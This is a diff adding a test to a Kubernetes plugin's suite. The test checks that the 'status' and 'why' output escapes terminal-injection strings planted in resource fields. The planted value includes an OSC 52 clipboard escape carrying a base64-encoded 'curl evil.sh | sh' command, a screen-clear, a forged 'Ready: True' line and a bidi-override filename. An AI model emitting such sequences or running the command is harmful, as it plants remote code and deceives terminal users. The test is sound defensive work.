@@ -93,6 +93,23 @@ def test_status_shows_conditions_certificate_calendar_and_ids(crd, kubectl, name
     )
 
 
+def test_what_the_plugin_prints_cannot_drive_the_readers_terminal(crd, kubectl, namespace, aevm):
+    """Whoever can write status (or a guest certificate, or Azure's messages) chooses these strings: ANSI
+    and OSC 52 escapes, a carriage return, a bidi override. Each reaches the terminal escaped."""
+    hostile = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\rReady: True \u202egnp.exe"
+    status = samples.degraded_status()
+    status["smbOverQuic"]["subject"] = "CN=fs01" + hostile
+    status["conditions"][0]["message"] = hostile
+    create_with_status(kubectl, namespace, status)
+    for command in ("status", "why"):
+        shown = aevm(command, "branch-fs-01", "-n", namespace)
+        assert shown.returncode == 0, shown.stderr
+        assert not {"\x1b", "\x07", "\r", "\u202e"} & set(shown.stdout), repr(shown.stdout)
+        assert "\\x1b]52;c;" in shown.stdout, command
+        as_json = aevm(command, "branch-fs-01", "-n", namespace, "-o", "json")
+        assert not {"\x1b", "\x07", "\r", "\u202e"} & set(as_json.stdout), command
+
+
 def test_why_walks_the_reasons_with_their_documented_fixes(crd, kubectl, namespace, aevm):
     create_with_status(kubectl, namespace, samples.failed_status())
     shown = aevm("why", "branch-fs-01", "-n", namespace)
